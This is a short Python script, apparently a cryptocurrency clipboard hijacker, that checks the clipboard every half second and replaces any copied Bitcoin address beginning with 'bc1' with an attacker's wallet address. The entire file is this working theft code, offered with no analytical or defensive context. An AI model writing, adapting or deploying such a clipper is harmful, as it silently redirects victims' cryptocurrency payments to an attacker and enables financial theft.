import pyperclip, time
while True:
    text = pyperclip.paste()
    if text.startswith("bc1"):
        pyperclip.copy("bc1attackerwallet")
    time.sleep(0.5)